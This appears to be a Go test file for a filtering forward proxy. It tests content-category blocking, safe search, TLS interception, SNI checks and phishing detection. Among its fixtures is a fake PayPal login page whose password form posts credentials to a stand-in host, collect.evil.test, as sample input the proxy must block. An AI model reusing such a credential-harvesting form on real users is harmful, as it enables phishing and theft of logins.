package forward_test

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/opsgraph/ops/internal/config"
	"github.com/opsgraph/ops/internal/testcert"
	"github.com/opsgraph/ops/internal/testutil"
)

const adultText = `<p>Hardcore porn videos, XXX videos and live sex cams updated daily.</p>
<p>18 U.S.C. 2257 Record-Keeping Requirements Compliance Statement</p>`

// sites serves the filter tests' pages by Host: a news page, an adult
// page sent gzip'd, a casino page, a page whose adult text starts after
// the scanned prefix, and a search engine that echoes its query.
type sites struct {
	srv   *httptest.Server
	hits  map[string]*atomic.Int64
	big   []byte // big.test's gzip'd body, as sent
	query chan string
}

func startSites(t *testing.T) *sites {
	s := &sites{hits: map[string]*atomic.Int64{}, query: make(chan string, 10)}
	for _, h := range []string{"news.test", "adult-page.test", "casino.test", "big.test", "adult-example.test", "www.google.com",
		"login.paypa1-secure.test", "account-check.test", "paypa1.test"} {
		s.hits[h] = &atomic.Int64{}
	}
	var big bytes.Buffer
	zw := gzip.NewWriter(&big)
	io.WriteString(zw, "<html><title>Long read</title><body><p>"+strings.Repeat("The council met on Tuesday to talk about roads. ", 2000)+"</p>"+adultText+"</body></html>")
	zw.Close()
	s.big = big.Bytes()
	s.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		host, _, _ := net.SplitHostPort(r.Host)
		if c := s.hits[host]; c != nil {
			c.Add(1)
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		switch host {
		case "news.test":
			io.WriteString(w, "<html><title>Council votes on budget</title><p>The council approved the budget.</p></html>")
		case "adult-page.test":
			w.Header().Set("Content-Encoding", "gzip")
			zw := gzip.NewWriter(w)
			io.WriteString(zw, "<html><title>Free porn videos</title><body>"+adultText+"</body></html>")
			zw.Close()
		case "casino.test":
			io.WriteString(w, "<html><title>Online Casino</title><p>Claim 100 free spins and a welcome bonus at our online casino! Roulette, blackjack and slot machines.</p></html>")
		case "big.test":
			w.Header().Set("Content-Encoding", "gzip")
			w.Write(s.big)
		case "login.paypa1-secure.test", "account-check.test":
			io.WriteString(w, `<html><title>PayPal: Log in</title><body><h1>Log in to your PayPal account</h1>
<form method="post" action="https://collect.evil.test/p"><input name="email"><input type="password" name="pw"><button>Log in</button></form></body></html>`)
		case "www.google.com":
			s.query <- r.URL.RawQuery
			io.WriteString(w, "<html><title>Results</title></html>")
		default:
			io.WriteString(w, "<html><title>Hello</title><p>hello from "+r.Host+"</p></html>")
		}
	}))
	t.Cleanup(s.srv.Close)
	return s
}

type filterSetup struct {
	r       *testutil.Running
	proxy   string
	sites   *sites
	port    string // the sites' port
	tlsPort string
}

func startFilter(t *testing.T, dir string, more ...func(*config.Config)) *filterSetup {
	t.Helper()
	fs := &filterSetup{sites: startSites(t)}
	_, fs.port, _ = net.SplitHostPort(fs.sites.srv.Listener.Addr().String())
	ca, certFile, keyFile := testutil.TLSFiles(t)
	_ = ca
	cert, err := tls.LoadX509KeyPair(certFile, keyFile)
	if err != nil {
		t.Fatal(err)
	}
	tlsSite := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "tls site") }))
	tlsSite.TLS = &tls.Config{Certificates: []tls.Certificate{cert}}
	tlsSite.StartTLS()
	t.Cleanup(tlsSite.Close)
	_, fs.tlsPort, _ = net.SplitHostPort(tlsSite.Listener.Addr().String())
	var tport int
	fmt.Sscan(fs.tlsPort, &tport)
	fs.r = testutil.StartApp(t, []string{"all"}, func(c *config.Config) {
		f := &c.Proxy.Forward
		f.Listen, f.Auth = "127.0.0.1:0", "basic"
		f.AllowPorts = []int{tport}
		f.DenyNetworks, f.DenyOwn = nil, false // the sites are on this machine
		f.Hosts = map[string]string{}
		for h := range fs.sites.hits {
			f.Hosts[h] = "127.0.0.1"
		}
		f.Filter.Enabled, f.Filter.SafeSearch = true, true
		f.Filter.Categories = dir
		f.Filter.ScanBytes = 8 << 10
		f.Filter.Reload = config.Duration(time.Second)
		f.Rules = []config.ForwardRule{
			{Name: "gambling-warns", Categories: config.Strings{"gambling"}, Action: "warn"},
			{Name: "no-news-for-bob", Hosts: config.Strings{"news.test"}, Users: config.Strings{"bob"}, Action: "block"},
		}
		for _, f := range more {
			f(c)
		}
	})
	for _, u := range []string{"alice", "bob"} {
		req, _ := http.NewRequest("POST", fs.r.URL+"/api/v1/users", strings.NewReader(`{"name":"`+u+`","password":"`+u+`-password-1","roles":["viewer"],"groups":["staff"]}`))
		req.Header.Set("Content-Type", "application/json")
		resp, err := http.DefaultClient.Do(req)
		if err != nil || resp.StatusCode != 201 {
			t.Fatalf("add %s: %v %v", u, err, resp)
		}
		resp.Body.Close()
	}
	fs.proxy = fs.r.App.Forward().Addr().String()
	return fs
}

func (fs *filterSetup) client(user string) *http.Client {
	u := &url.URL{Scheme: "http", Host: fs.proxy, User: url.UserPassword(user, user+"-password-1")}
	return &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{Proxy: http.ProxyURL(u), DisableCompression: true},
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
}

func (fs *filterSetup) url(host, path string) string { return "http://" + host + ":" + fs.port + path }

// events returns the forward proxy's events of a type so far.
func (fs *filterSetup) events(t *testing.T, subject string) string {
	t.Helper()
	resp, err := http.Get(fs.r.URL + "/api/v1/events?subject=" + subject + "&limit=1000")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return string(b)
}

func (fs *filterSetup) waitEvent(t *testing.T, subject string, want ...string) {
	t.Helper()
	testutil.CheckFor(t, 10*time.Second, 100*time.Millisecond, func() error {
		got := fs.events(t, subject)
		for _, w := range want {
			if !strings.Contains(got, w) {
				return fmt.Errorf("no %s in %s events: %s", w, subject, got)
			}
		}
		return nil
	})
}

// copyStarter copies the starter categories into a directory the test
// can change.
func copyStarter(t *testing.T) string {
	dir := t.TempDir()
	src := filepath.Join("..", "webfilter", "starter")
	err := filepath.Walk(src, func(p string, info os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(src, p)
		if info.IsDir() {
			return os.MkdirAll(filepath.Join(dir, rel), 0o755)
		}
		b, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		return os.WriteFile(filepath.Join(dir, rel), b, 0o644)
	})
	if err != nil {
		t.Fatal(err)
	}
	return dir
}

// TestContentFilter: pages are classified by their URL and their text
// (through gzip) and the policy decides: block pages with a request id,
// a warn page whose link lets the person (only them) through, a review
// request as an event and a metric, safe search enforced, a POLICY entry
// that reverses a block, a rule file edited while running, and the
// server name inside a tunnel checked.
func TestContentFilter(t *testing.T) {
	dir := copyStarter(t)
	fs := startFilter(t, dir)
	alice, bob := fs.client("alice"), fs.client("bob")

	// An ordinary page passes, byte for byte.
	code, body, _ := get(t, alice, fs.url("news.test", "/"))
	if code != 200 || !strings.Contains(body, "The council approved the budget.") {
		t.Fatalf("news: %d %s", code, body)
	}
	// A rule for one user.
	if code, body, _ := get(t, bob, fs.url("news.test", "/")); code != 403 || !strings.Contains(body, "news.test") {
		t.Fatalf("bob, news: %d %s", code, body)
	}

	// An adult page by its text, sent gzip'd: the block page.
	code, body, h := get(t, alice, fs.url("adult-page.test", "/gallery"))
	if code != 403 || !strings.Contains(body, "<b>adult</b>") || h.Get("Content-Encoding") != "" {
		t.Fatalf("adult page: %d %v %s", code, h, body)
	}
	rid := regexp.MustCompile(`id="request-id">([^<]+)<`).FindStringSubmatch(body)
	if rid == nil {
		t.Fatalf("no request id on the block page: %s", body)
	}
	// An adult site by its domain: blocked before the upstream is asked.
	if code, body, _ := get(t, alice, fs.url("www.adult-example.test", "/")); code != 403 || !strings.Contains(body, "adult") {
		t.Fatalf("adult domain: %d %s", code, body)
	}
	if n := fs.sites.hits["adult-example.test"].Load(); n != 0 {
		t.Fatalf("the blocked site was asked %d times", n)
	}

	// A page whose adult text is past scan_bytes passes, unchanged: the
	// scan is bounded and the bytes read for it are sent on.
	resp, err := alice.Get(fs.url("big.test", "/"))
	if err != nil {
		t.Fatal(err)
	}
	raw, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 || !bytes.Equal(raw, fs.sites.big) {
		t.Fatalf("big page: %d, %d bytes, want the %d the site sent", resp.StatusCode, len(raw), len(fs.sites.big))
	}

	// The review form on the block page: an event and a counter; a form
	// signed for someone else is refused.
	review := func(c *http.Client, token string) int {
		form := url.Values{"id": {rid[1]}, "t": {token}, "c": {"adult"}, "u": {fs.url("adult-page.test", "/gallery")}, "comment": {"it is a medical site"}}
		resp, err := c.PostForm(fs.url("adult-page.test", "/.well-known/ops-filter/review"), form)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp.StatusCode
	}
	tok := regexp.MustCompile(`name="t" value="([^"]+)"`).FindStringSubmatch(body)
	if tok == nil {
		t.Fatalf("no review form on the block page")
	}
	if code := review(bob, tok[1]); code != 403 {
		t.Fatalf("bob sending alice's review form: %d", code)
	}
	if code := review(alice, tok[1]); code != 200 {
		t.Fatalf("review: %d", code)
	}
	fs.waitEvent(t, "ev.proxy.review", `"request_id":"`+rid[1]+`"`, `"user":"alice"`, `"comment":"it is a medical site"`)
	if m := fs.r.Metrics(t); !strings.Contains(m, `ops_forward_review_requests_total{category="adult"} 1`) {
		t.Fatalf("review counter: %s", grepLines(m, "review"))
	}

	// Gambling: the rule warns; the link lets alice (not bob) go on.
	code, body, _ = get(t, alice, fs.url("casino.test", "/"))
	link := regexp.MustCompile(`id="continue" href="([^"]+)"`).FindStringSubmatch(body)
	if code != 403 || link == nil {
		t.Fatalf("casino: %d %s", code, body)
	}
	cont := fs.url("casino.test", strings.ReplaceAll(link[1], "&amp;", "&"))
	if code, _, _ := get(t, bob, cont); code != 403 {
		t.Fatalf("bob using alice's link: %d", code)
	}
	code, _, h = get(t, alice, cont)
	if code != 303 || h.Get("Location") != fs.url("casino.test", "/") {
		t.Fatalf("continue: %d %v", code, h)
	}
	if code, body, _ := get(t, alice, fs.url("casino.test", "/")); code != 200 || !strings.Contains(body, "free spins") {
		t.Fatalf("casino after continuing: %d %s", code, body)
	}
	if code, _, _ := get(t, bob, fs.url("casino.test", "/")); code != 403 {
		t.Fatalf("bob, casino: %d", code)
	}

	// Safe search: the engine gets safe=active.
	if code, _, _ := get(t, alice, fs.url("www.google.com", "/search?q=cats")); code != 200 {
		t.Fatalf("search: %d", code)
	}
	if q := <-fs.sites.query; q != "q=cats&safe=active" {
		t.Fatalf("the engine got %q", q)
	}

	// POLICY reverses a decision: allow the adult page for the staff group.
	putPolicy(t, fs.r, "browse/staff:adult-page.test/gallery", `{"action":"allow","reason":"reviewed"}`)
	testutil.CheckFor(t, 5*time.Second, 100*time.Millisecond, func() error {
		if code, _, _ := get(t, alice, fs.url("adult-page.test", "/gallery")); code != 200 {
			return fmt.Errorf("after the POLICY allow: %d", code)
		}
		return nil
	})
	if code, _, _ := get(t, alice, fs.url("adult-page.test", "/other")); code != 403 {
		t.Fatalf("a path the allow does not cover: %d", code)
	}

	// A rule file changed while running applies without a restart.
	if err := os.WriteFile(filepath.Join(dir, "gambling", "extra"), []byte("news.test 500\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	testutil.CheckFor(t, 10*time.Second, 200*time.Millisecond, func() error {
		if code, _, _ := get(t, alice, fs.url("news.test", "/")); code != 403 {
			return fmt.Errorf("news after it was listed as gambling: %d", code)
		}
		return nil
	})
	// A broken rule file keeps the rules in force.
	if err := os.WriteFile(filepath.Join(dir, "gambling", "broken"), []byte("/(unclosed/\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	time.Sleep(2500 * time.Millisecond)
	if code, _, _ := get(t, alice, fs.url("news.test", "/")); code != 403 {
		t.Fatalf("news after a broken file: %d (the last good rules should stay)", code)
	}

	// The server name in a tunnel: CONNECT to an allowed address with a
	// ClientHello for a blocked name is cut; for an allowed name it works.
	tunnel := func(sni string) error {
		c, err := net.Dial("tcp", fs.proxy)
		if err != nil {
			return err
		}
		defer c.Close()
		c.SetDeadline(time.Now().Add(10 * time.Second))
		fmt.Fprintf(c, "CONNECT 127.0.0.1:%s HTTP/1.1\r\nHost: x\r\nProxy-Authorization: Basic YWxpY2U6YWxpY2UtcGFzc3dvcmQtMQ==\r\n\r\n", fs.tlsPort)
		br := bufio.NewReader(c)
		line, _ := br.ReadString('\n')
		if !strings.Contains(line, " 200 ") {
			return fmt.Errorf("CONNECT: %s", line)
		}
		for l, _ := br.ReadString('\n'); l != "\r\n" && l != ""; l, _ = br.ReadString('\n') {
		}
		tc := tls.Client(c, &tls.Config{ServerName: sni, InsecureSkipVerify: true})
		return tc.Handshake()
	}
	if err := tunnel("localhost"); err != nil {
		t.Fatalf("tunnel with an allowed name: %v", err)
	}
	if err := tunnel("www.adult-example.test"); err == nil {
		t.Fatal("tunnel with a blocked server name: handshake went through")
	}

	fs.waitEvent(t, "ev.proxy.browse",
		`"host":"adult-page.test","port":`+fs.port+`,"path":"/gallery","action":"block","rule":"category adult","reason":"rule category adult (page content)","category":"adult"`,
		`"action":"warn","rule":"gambling-warns"`, `"action":"continue"`, `"safe_search":true`, `"sni":"www.adult-example.test"`,
		`"reason":"server name www.adult-example.test in the tunnel: rule category adult"`, `"request_id":"`+rid[1]+`"`)
}

func putPolicy(t *testing.T, r *testutil.Running, path, body string) {
	t.Helper()
	req, _ := http.NewRequest("PUT", r.URL+"/api/v1/policy/"+path, strings.NewReader(body))
	req.Header.Set("Authorization", "Bearer "+r.Token)
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode/100 != 2 {
		t.Fatalf("PUT policy %s: %d %s", path, resp.StatusCode, b)
	}
}

func grepLines(s, sub string) string {
	var out []string
	for _, l := range strings.Split(s, "\n") {
		if strings.Contains(l, sub) {
			out = append(out, l)
		}
	}
	return strings.Join(out, "\n")
}

// TestPhishingThroughProxy: the test page (a lookalike host) is
// blocked by its name; the same page on an innocent-looking name is
// blocked by what it shows (the brand and a password form posting
// elsewhere); a plain lookalike gets the warning; the brand's reasons
// are in the events.
func TestPhishingThroughProxy(t *testing.T) {
	fs := startFilter(t, "", func(c *config.Config) {
		c.Phishing.Protect = config.Strings{"paypal.com"}
		c.Phishing.NewDomainDays = 0
	})
	alice := fs.client("alice")
	code, body, _ := get(t, alice, fs.url("login.paypa1-secure.test", "/"))
	if code != 403 || !strings.Contains(body, "phishing") || fs.sites.hits["login.paypa1-secure.test"].Load() != 0 {
		t.Fatalf("lookalike host: %d %s", code, body)
	}
	code, body, _ = get(t, alice, fs.url("account-check.test", "/"))
	if code != 403 || !strings.Contains(body, "phishing") {
		t.Fatalf("brand and password form on another host: %d %s", code, body)
	}
	code, body, _ = get(t, alice, fs.url("paypa1.test", "/"))
	if code != 403 || !strings.Contains(body, `id="continue"`) {
		t.Fatalf("plain lookalike: %d %s", code, body)
	}
	if code, _, _ := get(t, alice, fs.url("news.test", "/")); code != 200 {
		t.Fatalf("news: %d", code)
	}
	fs.waitEvent(t, "ev.proxy.browse",
		`"host":"login.paypa1-secure.test"`, `looks like \"paypal\"`,
		`"host":"account-check.test","port":`+fs.port+`,"path":"/","action":"block","rule":"phishing"`, `its form posts to collect.evil.test`,
		`"host":"paypa1.test","port":`+fs.port+`,"path":"/","action":"warn","rule":"phishing"`)
}

// TestInterception: with intercept on, HTTPS pages are opened with
// Ops's CA (the client trusts what GET /api/v1/forward/ca.pem gives) and
// filtered like plain ones: a page's text blocks it through TLS and
// gzip, safe search is rewritten, a bypassed host is tunnelled as it is
// (its own certificate), a ClientHello for another name than the tunnel's
// is refused, and curl trusting the exported CA works through it.
func TestInterception(t *testing.T) {
	dir := t.TempDir()
	ca, certFile, keyFile := filepath.Join(dir, "ca.pem"), filepath.Join(dir, "cert.pem"), filepath.Join(dir, "key.pem")
	names := []string{"news.test", "adult-page.test", "bypass.test", "www.google.com"}
	if _, err := testcert.Write(ca, certFile, keyFile, names...); err != nil {
		t.Fatal(err)
	}
	var tlsSrv *httptest.Server
	var s *sites
	fs := startFilter(t, "", func(c *config.Config) {
		s = startSites(t)
		tlsSrv = httptest.NewUnstartedServer(s.srv.Config.Handler)
		cert, err := tls.LoadX509KeyPair(certFile, keyFile)
		if err != nil {
			t.Fatal(err)
		}
		tlsSrv.TLS = &tls.Config{Certificates: []tls.Certificate{cert}}
		tlsSrv.StartTLS()
		t.Cleanup(tlsSrv.Close)
		_, port, _ := net.SplitHostPort(tlsSrv.Listener.Addr().String())
		var p int
		fmt.Sscan(port, &p)
		f := &c.Proxy.Forward
		f.AllowPorts = append(f.AllowPorts, p)
		f.Hosts["bypass.test"] = "127.0.0.1"
		f.Intercept = config.ForwardIntercept{Enabled: true, Bypass: config.Strings{"bypass.test"}, UpstreamCA: ca}
	})
	_, tport, _ := net.SplitHostPort(tlsSrv.Listener.Addr().String())
	// The CA, as a client gets it.
	code, caPEM, _ := get(t, http.DefaultClient, fs.r.URL+"/api/v1/forward/ca.pem")
	roots := x509.NewCertPool()
	if code != 200 || !roots.AppendCertsFromPEM([]byte(caPEM)) {
		t.Fatalf("CA: %d %s", code, caPEM)
	}
	client := func(roots *x509.CertPool) *http.Client {
		u := &url.URL{Scheme: "http", Host: fs.proxy, User: url.UserPassword("alice", "alice-password-1")}
		return &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{Proxy: http.ProxyURL(u), DisableCompression: true,
			TLSClientConfig: &tls.Config{RootCAs: roots}}}
	}
	alice := client(roots)
	at := func(host, path string) string { return "https://" + host + ":" + tport + path }
	if code, body, _ := get(t, alice, at("news.test", "/")); code != 200 || !strings.Contains(body, "The council approved the budget.") {
		t.Fatalf("news over intercepted TLS: %d %s", code, body)
	}
	if code, body, _ := get(t, alice, at("adult-page.test", "/gallery")); code != 403 || !strings.Contains(body, "<b>adult</b>") {
		t.Fatalf("adult page over intercepted TLS: %d %s", code, body)
	}
	if code, _, _ := get(t, alice, at("www.google.com", "/search?q=cats")); code != 200 {
		t.Fatalf("search: %d", code)
	}
	if q := <-s.query; q != "q=cats&safe=active" {
		t.Fatalf("the engine got %q", q)
	}
	// Bypassed: the site's own certificate, which Ops's CA did not sign.
	if code, body, _ := get(t, alice, at("bypass.test", "/")); code != 0 || !strings.Contains(body, "certificate") {
		t.Fatalf("bypass host trusting only Ops's CA: %d %s", code, body)
	}
	siteRoots := x509.NewCertPool()
	pemBytes, _ := os.ReadFile(ca)
	siteRoots.AppendCertsFromPEM(pemBytes)
	if code, body, _ := get(t, client(siteRoots), at("bypass.test", "/")); code != 200 || !strings.Contains(body, "hello from bypass.test") {
		t.Fatalf("bypass host trusting the site's CA: %d %s", code, body)
	}
	// A ClientHello for another name than the tunnel's host.
	c, err := net.Dial("tcp", fs.proxy)
	if err != nil {
		t.Fatal(err)
	}
	c.SetDeadline(time.Now().Add(10 * time.Second))
	fmt.Fprintf(c, "CONNECT news.test:%s HTTP/1.1\r\nHost: x\r\nProxy-Authorization: Basic YWxpY2U6YWxpY2UtcGFzc3dvcmQtMQ==\r\n\r\n", tport)
	br := bufio.NewReader(c)
	for l, _ := br.ReadString('\n'); l != "\r\n" && l != ""; l, _ = br.ReadString('\n') {
	}
	if err := tls.Client(c, &tls.Config{ServerName: "adult-page.test", RootCAs: roots}).Handshake(); err == nil {
		t.Fatal("a ClientHello for another host went through")
	}
	c.Close()
	// curl, trusting the exported CA.
	caOut := filepath.Join(dir, "ops-ca.pem")
	os.WriteFile(caOut, []byte(caPEM), 0o644)
	out, err := exec.Command("curl", "-sS", "--max-time", "10", "--cacert", caOut, "-x", "http://"+fs.proxy, "-U", "alice:alice-password-1",
		at("news.test", "/")).CombinedOutput()
	if err != nil || !strings.Contains(string(out), "The council approved the budget.") {
		t.Fatalf("curl through interception: %v %s", err, out)
	}
	fs.waitEvent(t, "ev.proxy.browse", `"method":"CONNECT","host":"news.test","port":`+tport+`,"sni":"news.test","intercepted":true,"action":"allow"`,
		`"method":"GET","host":"adult-page.test","port":`+tport+`,"path":"/gallery","intercepted":true,"action":"block"`,
		`"method":"CONNECT","host":"news.test","port":`+tport+`,"intercepted":true,"action":"block","rule":"default","reason":"TLS interception: server name \"adult-page.test\" is not the tunnel's host news.test"`)
}

// TestContentSecurityViews runs examples/content-security.yaml: the
// proxy's decisions counted per category and action in a view, review
// requests per category, and a forum thread's mood per ten minutes with
// a processor that raises ev.alert.forum_heated when five angry posts
// land in one window.
func TestContentSecurityViews(t *testing.T) {
	raw, err := os.ReadFile("../../examples/content-security.yaml")
	if err != nil {
		t.Fatal(err)
	}
	ex, err := config.Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	forum := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "posted") }))
	t.Cleanup(forum.Close)
	fs := startFilter(t, "", func(c *config.Config) {
		c.Views, c.Processors = ex.Views, ex.Processors
		c.Proxy.Listen = "127.0.0.1:0"
		c.Proxy.Routes = []config.Route{{Name: "forum", Upstreams: config.Strings{forum.URL},
			Moderate: config.Moderate{Fields: config.Strings{"body"}, Thread: "thread", Action: "log", MaxBody: 4 << 10}}}
	})
	alice := fs.client("alice")
	get(t, alice, fs.url("news.test", "/"))
	fs.reviewAdultPage(t, alice)
	get(t, alice, fs.url("casino.test", "/"))
	var proxyAddr string
	testutil.CheckFor(t, 10*time.Second, 20*time.Millisecond, func() error {
		if p := fs.r.App.Proxy(); p != nil && len(p.Addrs()) > 0 {
			proxyAddr = p.Addrs()[0].String()
			return nil
		}
		return fmt.Errorf("the reverse proxy is not up")
	})
	// The view's windows are ten minutes: five posts split across an edge
	// are two windows of fewer. Start clear of one.
	if left := time.Until(time.Now().Truncate(10 * time.Minute).Add(10 * time.Minute)); left < 10*time.Second {
		time.Sleep(left + 100*time.Millisecond)
	}
	for _, text := range []string{"This is awful.", "Terrible, I hate it.", "Worst idea ever, disgusting.", "Stupid and ugly.", "Horrible, pathetic thread."} {
		resp, err := http.PostForm("http://"+proxyAddr+"/post", url.Values{"thread": {"hot"}, "body": {text}})
		if err != nil || resp.StatusCode != 200 {
			t.Fatalf("forum post: %v %v", err, resp)
		}
		resp.Body.Close()
	}
	view := func(name string) string {
		_, b := testutil.Call(t, "GET", fs.r.URL+"/api/v1/views/"+name, fs.r.Token, "")
		return b
	}
	testutil.CheckFor(t, 15*time.Second, 100*time.Millisecond, func() error {
		b := view("browse_by_category")
		for _, want := range []string{`"action":"block","category":"adult"`, `"action":"warn","category":"gambling"`, `"action":"allow","category":"none"`} {
			if !strings.Contains(b, want) {
				return fmt.Errorf("no %s in browse_by_category: %s", want, b)
			}
		}
		if b := view("reviews_by_category"); !strings.Contains(b, `"category":"adult"`) || !strings.Contains(b, `"reviews":1`) {
			return fmt.Errorf("reviews_by_category: %s", b)
		}
		if b := view("forum_thread_mood"); !strings.Contains(b, `"thread":"hot"`) || !strings.Contains(b, `"posts":5`) {
			return fmt.Errorf("forum_thread_mood: %s", b)
		}
		return nil
	})
	fs.waitEvent(t, "ev.alert.forum_heated", `"thread":"hot"`, `"posts":5`, `"route":"forum"`)
}

// TestReviewAlerts: a review asked for from a block page fires the alert
// rule docs/forward.md gives, through Ops's own metrics, TSDB and rule
// evaluation.
func TestReviewAlerts(t *testing.T) {
	rules := filepath.Join(t.TempDir(), "filter.yml")
	if err := os.WriteFile(rules, []byte(`groups:
  - name: web-filter
    rules:
      - alert: FilterReviewRequested
        expr: increase(ops_forward_review_requests_total[10m]) > 0
        annotations:
          summary: "Someone asked for a review of a blocked page ({{ $labels.category }})"
`), 0o600); err != nil {
		t.Fatal(err)
	}
	fs := startFilter(t, "", func(c *config.Config) {
		c.TSDB.ScrapeInterval = config.Duration(time.Second)
		c.Alert.EvaluationInterval = config.Duration(time.Second)
		c.Alert.RuleFiles = config.Strings{rules}
	})
	alice := fs.client("alice")
	time.Sleep(2500 * time.Millisecond) // a scrape or two of the counter at 0
	fs.reviewAdultPage(t, alice)
	testutil.CheckFor(t, 30*time.Second, 250*time.Millisecond, func() error {
		got := fs.events(t, "ev.alert.firing")
		if !strings.Contains(got, "FilterReviewRequested") || !strings.Contains(got, "(adult)") {
			return fmt.Errorf("no firing alert: %s", got)
		}
		return nil
	})
}

// reviewAdultPage gets the adult page's block page as c and sends its
// review form, as a person would.
func (fs *filterSetup) reviewAdultPage(t *testing.T, c *http.Client) {
	t.Helper()
	code, body, _ := get(t, c, fs.url("adult-page.test", "/gallery"))
	tok := regexp.MustCompile(`name="t" value="([^"]+)"`).FindStringSubmatch(body)
	rid := regexp.MustCompile(`id="request-id">([^<]+)<`).FindStringSubmatch(body)
	if code != 403 || tok == nil || rid == nil {
		t.Fatalf("adult page: %d %s", code, body)
	}
	resp, err := c.PostForm(fs.url("adult-page.test", "/.well-known/ops-filter/review"), url.Values{"id": {rid[1]}, "t": {tok[1]}, "c": {"adult"}})
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("review: %v %v", err, resp)
	}
	resp.Body.Close()
}
